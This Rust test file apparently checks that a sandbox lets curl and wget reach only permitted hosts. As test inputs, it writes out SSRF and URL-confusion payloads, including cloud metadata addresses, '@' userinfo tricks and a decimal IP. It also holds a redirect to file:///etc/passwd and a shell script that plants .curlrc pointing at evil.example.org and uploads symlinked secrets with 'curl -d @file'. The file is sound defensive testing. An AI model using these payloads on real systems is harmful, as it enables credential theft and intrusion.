//! What `curl` and `wget` cannot do, however they are asked.

use operations::{Exit, RunId};
use programs::{Host, Reach};
use tokio::net::TcpListener;

use crate::place::{installed, place};
use crate::web::{host, rig};

#[tokio::test]
async fn other_hosts_are_refused_by_name() {
    let Some((peer, place)) = rig(&["curl", "wget"]).await else { return };
    let port = peer.port;
    for url in [
        "http://evil.example.org/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        &format!("http://127.0.0.1:{port}/"),
        &format!("http://localhost:{port}/"),
        "http://api.example.com:22/",
        "http://api.example.com@evil.example.org/",
        "http://api.example.com\\@evil.example.org/",
        "http://api.example.com.evil.example.org/",
        "http://{api.example.com,evil.example.org}/",
        "http://2852039166/",
        "http://0/",
    ] {
        for tool in ["curl -sg", "wget -qO-"] {
            let end = place.run(&format!("{tool} '{url}'")).await;
            let known_first = url.contains("\\@") && end.exit != Exit::Code(0);
            assert!(end.exit == Exit::Code(126) || known_first, "{tool} {url}: {:?} {}", end.exit, end.stderr);
        }
    }
    assert_eq!(peer.asked(), Vec::<String>::new());
}

#[tokio::test]
async fn redirections_stay_within_the_environment() {
    let Some((peer, place)) = rig(&["curl", "wget"]).await else { return };
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let port = other.local_addr().unwrap().port();
    let printed = place.run("curl -sL 'http://api.example.com/r?to=http://shop.test:8080/after'").await.good();
    assert!(printed.starts_with("GET /after"), "{printed}");
    for to in
        [format!("http://127.0.0.1:{port}/x"), "http://169.254.169.254/".to_owned(), "file:///etc/passwd".to_owned()]
    {
        let end = place.run(&format!("curl -sSL 'http://api.example.com/r?to={to}'")).await;
        assert_ne!(end.exit, Exit::Code(0), "{to}: {}", end.stdout);
        assert!(to.starts_with("file") || end.stderr.contains("not among the hosts"), "{}", end.stderr);
        let end = place.run(&format!("wget -qO- 'http://api.example.com/r?to={to}'")).await;
        assert_ne!(end.exit, Exit::Code(0), "{to}: {}", end.stdout);
    }
    assert!(other.accept().is_err(), "a redirection came through");
    assert_eq!(peer.asked().len(), 8);
}

#[tokio::test]
async fn each_failure_has_its_own_words() {
    if !installed(&["curl"]) {
        return;
    }
    let closed = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let unreachable = Host::new("down.example.com").unwrap().connect_to(&format!("127.0.0.1:{port}")).unwrap();
    let nameless = Host::new("nobody.invalid").unwrap();
    let hosts = vec![unreachable, nameless];
    let Some(place) = place(Reach { hosts, ..Reach::default() }) else { return };
    for (url, code, words) in [
        ("http://down.example.com/", 7, "cannot reach"),
        ("http://nobody.invalid/", 6, "finds no address for nobody.invalid"),
        ("http://other.example.com/", 126, "is not among the hosts that the environment test permits"),
    ] {
        let end = place.run(&format!("curl -s {url}")).await;
        assert_eq!(end.exit, Exit::Code(code), "{}", end.stderr);
        assert!(end.stderr.contains(words), "{}", end.stderr);
    }
    let nothing = crate::place::place(Reach::default()).unwrap();
    let end = nothing.run("curl -s http://a/").await;
    assert!(end.exit == Exit::Code(126) && end.stderr.contains("permits no host yet"), "{}", end.stderr);
}

#[tokio::test]
async fn what_is_not_installed_is_told() {
    let elsewhere = programs::Installed { path: "/opt/none/curl".into(), read_only: vec![] };
    let settings =
        programs::Settings { installed: [("curl".to_owned(), elsewhere)].into(), ..programs::Settings::default() };
    let Some(place) = crate::place::place_with(settings) else { return };
    let end = place.run("curl -s http://a/").await;
    assert_eq!(end.exit, Exit::Code(127));
    assert!(end.stderr.contains("not installed") && end.stderr.contains("apt-get install curl"), "{}", end.stderr);
}

#[tokio::test]
async fn certificates_are_checked_unless_the_environment_says_so() {
    let Some((peer, place)) = rig(&["curl"]).await else { return };
    let end = place.run("curl -sk https://api.example.com/").await;
    assert!(end.exit == Exit::Code(126) && end.stderr.contains("without a check"), "{}", end.stderr);
    let unchecked = host("api.example.com", &peer).unchecked();
    let other = crate::place::place(Reach { hosts: vec![unchecked], ..Reach::default() }).unwrap();
    // The peer speaks no TLS: it is enough that this came so far.
    let end = other.run("curl -sk https://api.example.com/").await;
    assert_eq!(end.exit, Exit::Code(35), "{}", end.stderr);
}

#[tokio::test]
async fn links_and_configuration_in_the_workspace_lead_nowhere() {
    let Some((peer, place)) = rig(&["curl", "wget"]).await else { return };
    let mut other = rig(&["curl"]).await.unwrap().1;
    other.run = RunId::new();
    other.run("echo others > secret").await.good();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("key"), "portals").unwrap();
    let (outside, secret) = (outside.path().display(), other.folder().join(format!("workspaces/{}/secret", other.run)));
    let script = format!(
        "echo 'url = http://evil.example.org' > .curlrc; echo 'output_document = /workspace/stolen' > .wgetrc\n\
         mkdir .config; cp .curlrc .config/curlrc\n\
         ln -s {outside}/key key; ln -s {} others; ln -s {outside} folder; ln -s /run/files files\n\
         for file in key others folder/key files/headers/given; do\n\
         curl -s http://api.example.com/up -d @$file && echo read $file; done\n\
         curl -s -o folder/new http://api.example.com/down && echo wrote\n\
         curl -s -o ../etc/new http://api.example.com/down && echo wrote\n\
         wget -qO- http://api.example.com/last; ls",
        secret.display()
    );
    let end = place.run(&format!("set +e\n{script}")).await;
    let asked = peer.asked();
    assert!(asked.iter().all(|asked| !asked.contains("portals") && !asked.contains("others")), "{asked:?}");
    assert!(!end.stdout.contains("read ") && !end.stdout.contains("wrote"), "{}", end.stdout);
    assert!(end.stdout.contains("GET /last") && !end.stdout.contains("stolen"), "{}{}", end.stdout, end.stderr);
    assert!(!std::path::Path::new(&format!("{outside}/new")).exists());
}
